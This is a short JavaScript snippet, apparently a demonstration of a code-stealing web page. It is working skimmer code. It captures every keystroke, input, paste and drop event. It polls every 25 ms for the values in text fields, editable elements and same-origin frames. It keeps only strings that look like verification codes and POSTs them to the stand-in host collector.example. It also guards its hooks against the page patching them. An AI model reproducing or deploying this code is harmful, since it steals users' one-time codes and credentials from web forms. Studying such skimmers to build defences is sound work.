// What a page that steals codes does: hears every event that may carry a character, reads every value it can reach, sends all of it once.
{
  const sent = Object.create(null);
  window.collect = (how, text) => {
    const body = `${how}: ${text}`;
    if (sent[body] || !/^[0-9A-Za-z]$|[0-9][A-Za-z0-9]|[A-Z][A-Z0-9]/.test(text ?? '')) return;
    sent[body] = true;
    fetch('https://collector.example/collect', { method: 'POST', mode: 'no-cors', body });
  };
  // Kept from before the page can patch them.
  const { collect } = window;
  const on = EventTarget.prototype.addEventListener;
  const repeat = window.setInterval;
  for (const target of [window, document])
    for (const capture of [true, false]) {
      for (const type of ['keydown', 'keypress', 'keyup'])
        on.call(target, type, (event) => collect(type, event.key), capture);
      for (const type of ['beforeinput', 'input', 'compositionupdate', 'compositionend'])
        on.call(target, type, (event) => collect(type, event.data ?? event.target.value), capture);
      on.call(target, 'paste', (event) => collect('paste', event.clipboardData.getData('text')), capture);
      on.call(target, 'drop', (event) => collect('drop', event.dataTransfer.getData('text')), capture);
    }
  const read = (root) => {
    for (const field of root.querySelectorAll('input, textarea')) collect('value', field.value);
    for (const field of root.querySelectorAll('[contenteditable], [role=textbox]')) collect('text', field.textContent);
    for (const frame of root.querySelectorAll('iframe'))
      try {
        if (frame.contentDocument) read(frame.contentDocument);
      } catch {
        // a foreign frame
      }
  };
  repeat.call(window, () => read(document), 25);
}
